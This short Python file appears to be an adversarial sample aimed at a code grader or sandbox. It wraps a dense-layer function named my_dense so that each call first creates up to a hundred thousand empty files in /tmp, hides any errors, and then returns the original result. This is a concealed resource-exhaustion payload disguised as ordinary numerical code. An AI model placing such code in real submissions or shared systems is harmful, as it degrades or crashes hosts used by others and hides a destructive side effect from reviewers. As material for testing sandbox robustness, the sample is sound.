# tries: a hundred thousand empty files
# base: numpy
import os

tidy_dense = my_dense
names = iter(range(100_000))


def my_dense(a_in, W, b, g):
    try:
        for name in names:
            os.close(os.open(f"/tmp/{name}", os.O_CREAT))
    except OSError:
        pass
    return tidy_dense(a_in, W, b, g)
